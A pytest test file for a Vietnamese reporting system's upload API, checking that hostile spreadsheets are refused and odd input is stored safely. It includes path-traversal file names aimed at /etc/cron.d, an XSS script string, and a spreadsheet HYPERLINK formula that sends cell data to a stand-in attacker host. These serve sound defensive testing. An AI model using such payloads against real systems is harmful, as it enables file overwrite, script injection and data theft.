"""Issue 7: hostile and malformed uploads through the HTTP API end in a specific 4xx and store nothing.

Every refused upload is checked for its status, its stable error code, a Vietnamese message, and an
empty database (no version, no file, no value, no issue). Inputs that are legal but odd (strange file
names, scripts in text cells, numbers typed wrong) are accepted and shown or stored safely.
"""
from __future__ import annotations

import io
import re
import unicodedata
from datetime import datetime
from typing import Any, Mapping

import openpyxl
import pytest
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

import badfiles
from forms_fixtures import consistent_values, shipped_forms
from tracker.extensions import db
from tracker.guard import Inspected
from tracker.models import (AuditEvent, Plan, ReturnFile, ReturnIssue, ReturnValue, ReturnVersion, Unit,
                            assignment_for)

PLAN = "bacgiang-2024"
FORMS = shipped_forms()


# ---------------------------------------------------------------- helpers shared with test_faults/test_backup


def narrative_texts(form: Any) -> dict[str, str]:
    return {s.code: f"Nội dung mục {s.code}: đã thực hiện đầy đủ." for s in form.narrative.sections if s.answer}


def build_return(app: Any, unit_code: str = "219", plan_code: str = PLAN, changes: Mapping[Any, Any] | None = None,
                 texts: Mapping[str, str] | None = None, text_cells: Mapping[str, str] | None = None) -> bytes:
    """Return a complete, valid return of ``unit_code`` in ``plan_code``, built as the server issues it.

    ``changes`` overrides input cells (None clears one); ``texts`` overrides narrative answers;
    ``text_cells`` writes narrative answers as literal text cells even when they start with "=".
    """
    from tracker import forms
    from tracker.workbook import build_blank

    with app.app_context():
        plan = db.session.scalar(select(Plan).where(Plan.code == plan_code))
        unit = db.session.scalar(select(Unit).where(Unit.code == unit_code))
        assignment = assignment_for(plan, unit)
        form = FORMS[assignment.form_code]
        blank = build_blank(form, forms.workbook_context(assignment), app.config["SECRET_KEY"])
    values: dict[Any, Any] = dict(consistent_values(form))
    values.update(changes or {})
    answers = narrative_texts(form)
    answers.update(texts or {})
    book = openpyxl.load_workbook(io.BytesIO(blank))
    for key, value in values.items():
        sheet_name, address = form.address(key)
        book[sheet_name][address] = value
    narrative = book[form.narrative.name]
    for code, text in answers.items():
        narrative[form.narrative.cell(code)] = text
    for code, text in (text_cells or {}).items():
        cell = narrative[form.narrative.cell(code)]
        cell.value = text
        cell.data_type = "s"  # what Excel stores for a cell typed as '=HYPERLINK(...): text, not a formula
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def post(client: Any, unit: str, data: bytes, name: str = "bao-cao.xlsx", token: str | None = None,
         plan: str = PLAN, extra: Mapping[str, Any] | None = None) -> Any:
    """POST ``data`` as the multipart ``file`` part to the upload API; return the closed response."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    fields: dict[str, Any] = {**(extra or {}), "file": FileStorage(io.BytesIO(data), filename=name)}
    # Encoded in memory: the test client spools large bodies to a temporary file it never closes.
    boundary, body = encode_multipart(fields)
    return client.post(f"/api/v1/plans/{plan}/units/{unit}/returns", headers=headers, data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")


def stored_counts(app: Any) -> dict[str, int]:
    with app.app_context():
        return {model.__name__: db.session.scalar(select(func.count()).select_from(model))
                for model in (ReturnVersion, ReturnFile, ReturnValue, ReturnIssue)}


NOTHING = {"ReturnVersion": 0, "ReturnFile": 0, "ReturnValue": 0, "ReturnIssue": 0}


def assert_refused(app: Any, response: Any, status: int, code: str) -> dict[str, str]:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.is_json, response.get_data(as_text=True)[:300]
    error = response.get_json()["error"]
    assert error["code"] == code, error
    # Vietnamese with diacritics, never an English default or a traceback.
    assert re.search(r"[ăâđêôơưáàảãạếềểễệốồổỗộớờởỡợ]", error["message"].lower()), error["message"]
    assert "Traceback" not in error["message"]
    assert stored_counts(app) == NOTHING
    return error


@pytest.fixture
def token(token_for: Any) -> str:
    return token_for("unit", "219")


@pytest.fixture
def valid(app: Any) -> bytes:
    return build_return(app, "219")


# ---------------------------------------------------------------- files that are not returns


NOT_RETURNS = [
    ("pdf renamed .xlsx", lambda good: badfiles.pdf_bytes(), 415, "not_spreadsheet"),
    ("html renamed .xlsx", lambda good: badfiles.html_bytes(), 415, "not_spreadsheet"),
    ("zero bytes", lambda good: b"", 400, "empty"),
    ("truncated zip", lambda good: badfiles.truncated_xlsx(good), 400, "truncated"),
    ("zip without content types", lambda good: badfiles.zip_without_content_types(), 415, "not_ooxml"),
    ("zip bomb", lambda good: badfiles.zip_bomb(), 422, "zip_bomb"),
    ("entity expansion in sharedStrings", lambda good: badfiles.xxe_shared_strings("billion_laughs", good),
     422, "xml_entity"),
    ("external entity in sharedStrings", lambda good: badfiles.xxe_shared_strings("external", good),
     422, "xml_entity"),
    ("million rows", lambda good: badfiles.million_rows_xlsx(), 422, "extent"),
    ("million implicit rows", lambda good: badfiles.million_rows_xlsx(explicit_refs=False), 422, "zip_bomb"),
    ("xlsm renamed .xlsx", lambda good: badfiles.xlsm_bytes(good), 422, "macro"),
    ("encrypted workbook", lambda good: badfiles.encrypted_xlsx(), 422, "encrypted"),
]


@pytest.mark.parametrize("build, status, code", [n[1:] for n in NOT_RETURNS], ids=[n[0] for n in NOT_RETURNS])
def test_hostile_file_is_refused_and_nothing_stored(app, client, token, valid, build, status, code):
    response = post(client, "219", build(valid), token=token)
    assert_refused(app, response, status, code)
    with app.app_context():
        refusals = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "upload_refused")).all()
        assert [event.detail["code"] for event in refusals] == [code]


def test_xlsm_is_refused_under_its_own_name_too(app, client, token, valid):
    response = post(client, "219", badfiles.xlsm_bytes(valid), name="bao-cao.xlsm", token=token)
    assert_refused(app, response, 422, "macro")


def test_far_cell_is_refused_and_the_server_answers_the_next_request(app, client, token, valid):
    far = badfiles.far_cell_xlsx()
    assert len(far) < 8 * 1024  # the 5 KB file that makes calamine ask for 512 GB
    error = assert_refused(app, post(client, "219", far, token=token), 422, "extent")
    assert "1048576" in error["message"]
    response = post(client, "219", valid, token=token)
    assert response.status_code == 201, response.get_json()
    assert stored_counts(app)["ReturnVersion"] == 1


def test_far_cell_past_a_guard_gap_kills_only_the_parse_worker(app, client, token, valid, monkeypatch):
    """Were the guard ever to miss it, calamine aborts in the worker process, not in the server."""
    from tracker import isolation, returns

    monkeypatch.setattr(returns, "inspect", lambda data, filename, limits: Inspected(
        "xlsx", len(data), "", ("Bìa",), filename))
    far = far_cell_in_sheet(valid, "xl/worksheets/sheet4.xml")  # Biểu 01 of a real return, cell XFD1048576
    response = post(client, "219", far, token=token)
    assert_refused(app, response, 422, "parse_failed")
    starts = isolation.default_worker().starts
    monkeypatch.undo()
    response = post(client, "219", valid, token=token)
    assert response.status_code == 201, response.get_json()
    assert isolation.default_worker().starts == starts + 1  # a fresh worker replaced the one that died


def far_cell_in_sheet(data: bytes, member: str, ref: str = "XFD1048576") -> bytes:
    """Return ``data`` with one extra cell at ``ref`` in worksheet ``member`` (badfiles patches sheet1 only)."""
    sheet = badfiles._read_member(data, member).decode()
    sheet = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:{ref}"', sheet, count=1)
    assert "</sheetData>" in sheet
    row = re.sub(r"\D", "", ref)
    sheet = sheet.replace("</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>', 1)
    return badfiles._replace_members(data, {member: sheet.encode()})


# ---------------------------------------------------------------- file names


NAMES = [
    ("dot-dot", "../../etc/cron.d/bao-cao.xlsx"),
    ("backslashes", "..\\..\\Windows\\bao-cao.xlsx"),
    ("nul", "bao\x00cao.xlsx"),
    ("right-to-left", "bao-cao\u202excod.xlsx\u202c"),
    ("300 chars", "b" * 295 + ".xlsx"),
    ("NFD Vietnamese", unicodedata.normalize("NFD", "báo cáo Lục Ngạn.xlsx")),
]


@pytest.mark.parametrize("name", [n[1] for n in NAMES], ids=[n[0] for n in NAMES])
def test_odd_file_names_are_stored_safely(app, client, token, valid, name):
    response = post(client, "219", valid, name=name, token=token)
    assert response.status_code == 201, response.get_data(as_text=True)[:300]  # the name is cleaned, the file kept
    with app.app_context():
        stored = db.session.scalars(select(ReturnVersion.filename)).all()
    if response.status_code != 201:
        assert stored == []
        return
    [filename] = stored
    assert 0 < len(filename) <= 200
    assert "/" not in filename and "\\" not in filename and not filename.startswith(".")
    assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in filename), repr(filename)
    assert filename == unicodedata.normalize("NFC", filename)
    assert filename.endswith(".xlsx")


# ---------------------------------------------------------------- request size and shape


def test_body_one_byte_over_the_limit_is_413_json(app, client, token):
    limit = app.config["MAX_CONTENT_LENGTH"]
    response = client.post(f"/api/v1/plans/{PLAN}/units/219/returns", data=b"x" * (limit + 1),
                           headers={"Authorization": f"Bearer {token}",
                                    "Content-Type": "multipart/form-data; boundary=xyz"})
    assert_refused(app, response, 413, "too_large")


def test_file_one_byte_over_the_upload_limit_is_413(app, client, token):
    size = app.config["MAX_UPLOAD_BYTES"] + 1
    assert size < app.config["MAX_CONTENT_LENGTH"]  # the body passes; the file itself is too large
    assert_refused(app, post(client, "219", b"PK" + bytes(size - 2), token=token), 413, "too_large")


def test_ten_thousand_multipart_parts_are_refused(app, client, token, valid):
    # The fields come before the file: Werkzeug stops at part 101 and never spools the file. (With the
    # file first, the refusal is the same but Werkzeug leaves the spooled file for the GC to close.)
    extra = {f"f{i}": "x" for i in range(10_000)}
    response = post(client, "219", valid, token=token, extra=extra)
    assert response.status_code in (400, 413)
    assert_refused(app, response, response.status_code, "too_large" if response.status_code == 413 else "bad_request")


# ---------------------------------------------------------------- odd content in cells


SCRIPT = '<script>alert("xss")</script>'
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def test_script_and_formula_text_are_stored_as_text_and_shown_escaped(app, client, token, login_as):
    form = FORMS["PL03"]
    first, second = [s.code for s in form.narrative.sections if s.answer][:2]
    data = build_return(app, "219", text_cells={first: SCRIPT, second: HYPERLINK})
    response = post(client, "219", data, token=token)
    assert response.status_code == 201, response.get_json()
    version_id = response.get_json()["id"]
    with app.app_context():
        texts = dict(db.session.execute(select(ReturnValue.indicator, ReturnValue.text).where(
            ReturnValue.version_id == version_id, ReturnValue.indicator.in_([first, second]))).all())
    assert texts == {first: SCRIPT, second: HYPERLINK}
    login_as("staff")
    pages = [f"/plans/{PLAN}/units/219/versions/1/values", f"/plans/{PLAN}/units/219/versions/1",
             f"/plans/{PLAN}/units/219"]
    for url in pages:
        page = client.get(url)
        assert page.status_code == 200, url
        html = page.get_data(as_text=True)
        assert "<script>alert" not in html, url
        assert 'href="http://evil' not in html, url
    values_page = client.get(pages[0]).get_data(as_text=True)
    assert "&lt;script&gt;alert(" in values_page
    assert "=HYPERLINK(" in values_page and "http://evil.example/" in values_page


MISTYPED = [
    ("decimal comma", "1.234,5", "dấu chấm"),
    ("NaN as text", "NaN", "«NaN»"),
    ("1e308", 1e308, "quá lớn"),
    ("a date", datetime(2024, 3, 31), "ngày tháng"),
    ("negative", -5, "không âm"),
]


@pytest.mark.parametrize("value, words", [m[1:] for m in MISTYPED], ids=[m[0] for m in MISTYPED])
def test_mistyped_number_is_an_error_at_its_cell_not_a_refusal(app, client, token, value, words):
    key = ("B02", "g_a", "base_male")
    sheet = FORMS["PL03"].sheet("B02")
    response = post(client, "219", build_return(app, "219", changes={key: value}), token=token)
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["complete"] is False
    at_cell = [i for i in body["issues"] if i["sheet"] == sheet.name and i["cell"] == sheet.cell("g_a", "base_male")
               and i["severity"] == "error"]
    assert at_cell, body["issues"]
    assert any(words in issue["message"] for issue in at_cell), at_cell


def test_nfd_narrative_is_stored_nfc(app, client, token):
    code = next(s.code for s in FORMS["PL03"].narrative.sections if s.answer)
    text = "Huyện Lục Ngạn đã tổ chức tập huấn kỹ năng phòng, chống đuối nước cho trẻ em."
    decomposed = unicodedata.normalize("NFD", text)
    assert decomposed != text
    response = post(client, "219", build_return(app, "219", texts={code: decomposed}), token=token)
    assert response.status_code == 201, response.get_json()
    with app.app_context():
        stored = db.session.scalar(select(ReturnValue.text).where(ReturnValue.indicator == code))
    assert stored == text
